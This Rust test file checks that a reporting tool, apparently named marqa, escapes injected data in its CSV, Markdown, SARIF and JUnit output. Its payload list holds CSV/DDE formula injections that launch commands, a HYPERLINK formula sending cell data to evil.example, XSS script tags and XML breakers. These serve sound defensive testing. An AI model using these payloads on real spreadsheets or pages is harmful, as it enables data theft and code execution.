//! Output injection: data that reaches a report (company, channel, group names, messages,
//! evidence cells) carrying spreadsheet formulas, Markdown/HTML and XML/JSON breakers.
//! CSV cells are made inert (a leading `'`), Markdown shows the text rather than markup,
//! SARIF and JUnit stay well-formed and carry the text exactly.

mod hostile_support;

use std::path::Path;

use hostile_support::{marqa, write};

/// Payloads, one per lead `source`: formulas (OWASP's CSV-injection list), Markdown and
/// HTML, XML and JSON breakers, control characters.
const PAYLOADS: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "a | b\n# heading\n---",
    "</failure><testcase name=\"x\"/>]]><!--",
    "quote \" backslash \\ bell \u{7} line\u{2028}sep",
    "`code` *bold* _it_ ~~s~~ <!-- c --> &amp;",
];

const MANIFEST: &str = "version: 1\ncompany: \"=HYPERLINK(\\\"http://evil.example\\\",\\\"Acme\\\")\"\nas_of: 2026-07-01T00:00:00+03:00\nperiod: {from: 2026-01-01, to: 2026-06-30}\ncurrency: RUB\ntimezone: Europe/Moscow\nchannels:\n  - {channel: \"=1+2\", source: [\"@SUM(1+1)*cmd|' /C calc'!A0\"]}\n  - {channel: \"+cmd|' /C calc'!A0\", medium: [cpc]}\n";

/// A snapshot whose leads carry the payloads as `source`, and a pack whose script emits
/// one failing finding per lead: group, message and evidence are the payload.
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let mut leads = String::from("lead_id,created_at,source,medium\n");
    for (i, p) in PAYLOADS.iter().enumerate() {
        let cell = format!("\"{}\"", p.replace('"', "\"\""));
        leads.push_str(&format!(
            "L{i},2026-03-0{}T09:15:00+03:00,{cell},cpc\n",
            1 + i % 9
        ));
    }
    write(
        dir.path(),
        &[
            ("snap/snapshot.yaml", MANIFEST),
            ("snap/leads.csv", &leads),
            ("pack/pack.yaml", "name: inject\n"),
            (
                "pack/rules/echo.yaml",
                "id: inject.echo\nstep: data_sources\nseverity: warning\ntitle: Echo\nscript: scripts/echo.rhai\n",
            ),
            (
                "pack/scripts/echo.rhai",
                "let ids = column(\"leads\", \"lead_id\");\nlet src = column(\"leads\", \"source\");\nfor i in 0..ids.len() {\n    emit(#{status: \"fail\", group: src[i], message: src[i], value: -1.5, threshold: 0,\n        evidence: #{counts: #{offending: 1}, rows: [#{lead_id: ids[i], source: src[i]}]}});\n}\n",
            ),
        ],
    );
    dir
}

fn report(dir: &Path, format: &str) -> String {
    let o = marqa(dir, ["check", "snap", "--pack", "pack", "--format", format]);
    assert_eq!(o.code, 0, "{format}: {}", o.stderr);
    o.stdout
}

fn formula(cell: &str) -> bool {
    matches!(
        cell.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

#[test]
fn csv_report_cells_never_start_a_formula() {
    let dir = workspace();
    let text = report(dir.path(), "csv");
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "rule",
            "step",
            "severity",
            "status",
            "per",
            "group",
            "title",
            "value",
            "threshold",
            "message",
            "evidence",
            "recommendation",
            "defined_at"
        ]
    );
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    assert_eq!(rows.len(), PAYLOADS.len(), "one row per finding");
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !formula(cell) || cell.parse::<f64>().is_ok(),
                "a cell starts a formula: {cell:?}"
            );
        }
        // marqa's own negative numbers stay numbers.
        assert_eq!(&row[7], "-1.5");
    }
    // The payloads are kept, made text: the same characters after a `'`.
    for p in PAYLOADS {
        let want = if formula(p) {
            format!("'{p}")
        } else {
            p.to_string()
        };
        assert!(
            rows.iter().any(|r| r[5] == want && r[9] == want),
            "group and message {want:?} in {rows:#?}"
        );
    }
}

#[test]
fn metrics_csv_group_names_never_start_a_formula() {
    let dir = workspace();
    let o = marqa(dir.path(), ["metrics", "snap", "--format", "csv"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let mut r = csv::ReaderBuilder::new().from_reader(o.stdout.as_bytes());
    let mut groups = std::collections::BTreeSet::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !formula(cell) || cell.parse::<f64>().is_ok(),
                "a cell starts a formula: {cell:?}"
            );
        }
        groups.insert(rec[2].to_string());
    }
    assert!(groups.contains("'=1+2"), "{groups:?}");
    assert!(groups.contains("'+cmd|' /C calc'!A0"), "{groups:?}");
}

#[test]
fn markdown_shows_the_data_as_text() {
    let dir = workspace();
    let md = report(dir.path(), "markdown");
    for raw in [
        "<script>",
        "[click](javascript:",
        "![x](http",
        "<!-- c -->",
        "`code`",
        "*bold*",
        "</failure>",
    ] {
        assert!(!md.contains(raw), "raw {raw:?} in the Markdown report");
    }
    for escaped in [
        "\\<script\\>alert(1)\\</script\\>",
        "\\[click\\](javascript:alert(1)) !\\[x\\](http://evil.example/p.png)",
        "a \\| b \\# heading ---",
        "\\`code\\` \\*bold\\* \\_it\\_ \\~\\~s\\~\\~ \\<!-- c --\\> &amp;",
    ] {
        assert!(md.contains(escaped), "missing {escaped:?}");
    }
    // Data never starts a line of its own (a heading, a rule, a table row).
    assert!(!md.lines().any(|l| l.starts_with("# heading")));
}

#[test]
fn sarif_carries_the_data_exactly() {
    let dir = workspace();
    let text = report(dir.path(), "sarif");
    let v: serde_json::Value = serde_json::from_str(&text).expect("SARIF is valid JSON");
    let results = v["runs"][0]["results"].as_array().unwrap();
    let messages: Vec<&str> = results
        .iter()
        .map(|r| r["message"]["text"].as_str().unwrap())
        .collect();
    for p in PAYLOADS {
        assert!(
            messages.iter().any(|m| m.contains(p)),
            "{p:?} in {messages:#?}"
        );
    }
}

#[test]
fn junit_is_well_formed_and_carries_the_data() {
    use quick_xml::events::Event;
    let dir = workspace();
    let xml = report(dir.path(), "junit");
    let mut reader = quick_xml::Reader::from_str(&xml);
    let mut text = String::new();
    let mut names = Vec::new();
    let entity = |name: &str| -> char {
        match name {
            "lt" => '<',
            "gt" => '>',
            "amp" => '&',
            "quot" => '"',
            "apos" => '\'',
            n => {
                let code = match n.strip_prefix("#x") {
                    Some(h) => u32::from_str_radix(h, 16),
                    None => n.trim_start_matches('#').parse(),
                };
                char::from_u32(code.unwrap_or_else(|_| panic!("entity {n}"))).unwrap()
            }
        }
    };
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Eof => break,
            Event::Start(e) | Event::Empty(e) => {
                for a in e.attributes() {
                    let a = a.expect("well-formed attribute");
                    let value = a
                        .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                        .expect("valid escapes")
                        .into_owned();
                    if a.key.as_ref() == "name" {
                        names.push(value);
                    }
                }
            }
            Event::Text(t) => text.push_str(&t.xml10_content()),
            Event::GeneralRef(r) => text.push(entity(&r.xml10_content())),
            _ => {}
        }
    }
    // One test case per finding, named by rule and group; the breakers are text.
    assert!(
        names
            .iter()
            .any(|n| n == "inject.echo [</failure><testcase name=\"x\"/>]]><!--]"),
        "{names:#?}"
    );
    assert!(text.contains("<script>alert(1)</script>"));
    assert!(text.contains("</failure><testcase name=\"x\"/>]]><!--"));
    // XML 1.0 has no way to write a bell: it becomes U+FFFD, the rest is kept.
    assert!(text.contains("quote \" backslash \\ bell \u{FFFD} line\u{2028}sep"));
    assert!(!xml.contains('\u{7}'));
}
